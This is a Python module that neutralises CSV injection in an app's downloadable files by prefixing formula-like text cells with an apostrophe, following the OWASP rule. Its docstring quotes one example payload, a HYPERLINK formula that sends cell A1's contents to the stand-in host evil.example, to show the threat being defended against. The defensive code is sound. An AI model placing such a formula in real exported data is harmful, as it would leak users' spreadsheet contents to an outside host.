"""CSV files people download: safe to open in a spreadsheet.

A contact named `=HYPERLINK("http://evil.example?"&A1,"Open")` must not become a formula in
Excel or LibreOffice. OWASP's rule (CSV injection): a text cell that starts with `=`, `+`, `-`,
`@`, a tab or a carriage return gets a leading `'`, and cells are quoted with `"` doubled inside
(the csv writer does that). Numbers (Decimal, int, float) are written as they are, so amounts
stay numbers; only text is touched. Every CSV the app offers is made here; Streamlit's own table
download, which does not neutralise, is turned off (`client.disableDataExport`).
"""

from __future__ import annotations

import pandas as pd

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: object) -> object:
    """One cell as it is written: text that a spreadsheet would run is prefixed with `'`."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def csv_text(frame: pd.DataFrame) -> str:
    """`frame` as CSV text (no index), every text cell neutralised with `csv_cell`."""
    safe = frame.copy()
    for col in safe.columns:
        if safe[col].dtype == object:
            safe[col] = safe[col].map(csv_cell)
    safe.columns = [csv_cell(str(c)) for c in safe.columns]
    return safe.to_csv(index=False)
